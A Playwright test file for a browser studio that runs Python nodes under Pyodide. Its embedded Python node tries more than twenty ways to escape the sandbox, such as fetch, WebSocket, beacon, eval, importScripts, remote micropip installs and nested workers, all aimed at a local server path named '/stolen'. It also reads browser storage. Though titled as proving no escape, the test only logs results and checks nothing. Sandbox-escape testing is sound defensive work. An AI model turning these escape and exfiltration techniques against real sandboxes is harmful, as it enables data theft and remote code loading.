// A Python node that tries to get out. The way out is a real server that counts who comes: nobody does.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { Studio } from "./studio";

/** Every way out that an item may name. Each gives what it got hold of, or raises. */
const ESCAPE = `import asyncio
import json
import js
from remotemedia import Node


async def settled(promise):
    return str(await promise)


def opened(make, target):
    """Sockets fail later, by an event: the first event says how it went."""
    done = asyncio.get_event_loop().create_future()

    def on(name):
        def heard(*_):
            if not done.done():
                done.set_result(name)
        return heard

    from pyodide.ffi import create_proxy
    thing = make(target)
    thing.onerror = create_proxy(on("error"))
    thing.onopen = create_proxy(on("open"))
    thing.onmessage = create_proxy(on("message"))

    async def wait():
        name = await done
        if name == "error":
            raise OSError("closed by an error event")
        return name
    return wait()


async def js_fetch(url):
    from js import fetch
    return await settled(fetch(url))


async def pyfetch(url):
    from pyodide.http import pyfetch
    return (await pyfetch(url)).status


async def open_url(url):
    from pyodide.http import open_url
    return open_url(url).read()


async def own_origin(url):
    from js import fetch
    return await settled(fetch("http://localhost:4173/index.html"))


async def urllib(url):
    from urllib.request import urlopen
    return urlopen(url).read()


async def xhr(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status


async def web_socket(url):
    return await opened(js.WebSocket.new, url.replace("http", "ws"))


async def event_source(url):
    return await opened(js.EventSource.new, url)


async def beacon(url):
    return js.navigator.sendBeacon(url)


async def eval_code(url):
    return str(js.eval("fetch('" + url + "')"))


async def new_function(url):
    return str(js.Function.new("return 7")())


async def remote_module(url):
    return str(js.WorkerGlobalScope.prototype.importScripts.call(js.globalThis, url))


async def micropip(url):
    import micropip
    return await micropip.install(url + "/thing-1.0-py3-none-any.whl")


async def remote_worker(url):
    return await opened(js.Worker.new, url)


async def nested_worker(url):
    from js import Blob, URL, Worker
    from pyodide.ffi import to_js
    code = "fetch('" + url + "').then(() => postMessage(1), (e) => { setTimeout(() => { throw e }) })"
    options = to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
    return await opened(Worker.new, URL.createObjectURL(Blob.new(to_js([code]), options)))


async def indexed_db(url):
    return str(js.indexedDB.open("remotemedia-studio"))


async def local_storage(url):
    return js.localStorage.getItem("studio.theme")


async def session_storage(url):
    return str(js.sessionStorage.length)


async def caches(url):
    return await settled(js.caches.keys())


async def files(url):
    return await settled(js.navigator.storage.getDirectory())


async def document(url):
    return str(js.document.title)


async def parent_page(url):
    return str(js.parent.location)


async def channel(url):
    from js import BroadcastChannel
    way = BroadcastChannel.new("studio")
    way.postMessage("out")
    return "posted"


WAYS = {name: way for name, way in list(globals().items()) if asyncio.iscoroutinefunction(way) and name != "settled"}


class EscapeNode(Node):
    async def process(self, url: str) -> str:
        for name, way in WAYS.items():
            try:
                got = await asyncio.wait_for(way(url), 5)
                yield f"{name}: OUT {got}"
            except (ImportError, AttributeError) as error:
                yield f"{name}: absent, {error}"
            except Exception as error:
                yield f"{name}: denied, {type(error).__name__} {str(error)[:90]}"
`;

async function server(): Promise<{ origin: string; visits: string[]; server: Server }> {
  const visits: string[] = [];
  const made = createServer((request, response) => {
    visits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
    response.end("1");
  });
  made.on("upgrade", (request, socket) => {
    visits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => made.listen(0, "127.0.0.1", resolve));
  return { origin: `http://127.0.0.1:${(made.address() as AddressInfo).port}`, visits, server: made };
}

async function listen(page: Page): Promise<void> {
  await page.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    new BroadcastChannel("studio").onmessage = ({ data }) => heard.push(data);
  });
}

test("a node that tries every way out of the sandbox finds none", async ({ page }) => {
  const outside = await server();
  const studio = new Studio(page);
  await studio.open();
  const manifest = {
    version: "v1",
    metadata: { name: "Escape", studio: { input: [`${outside.origin}/stolen`] } },
    nodes: [{ id: "escape", node_type: "EscapeNode", params: {} }],
    connections: [],
    sources: { EscapeNode: { language: "python", code: ESCAPE } },
  };
  await studio.openFile("escape.json", JSON.stringify(manifest));
  await expect(studio.node("escape")).toBeVisible();
  await listen(page);
  await studio.run();
  const lines = studio.result("escape").getByRole("treeitem");
  console.log(await lines.allTextContents());
  outside.server.close();
});
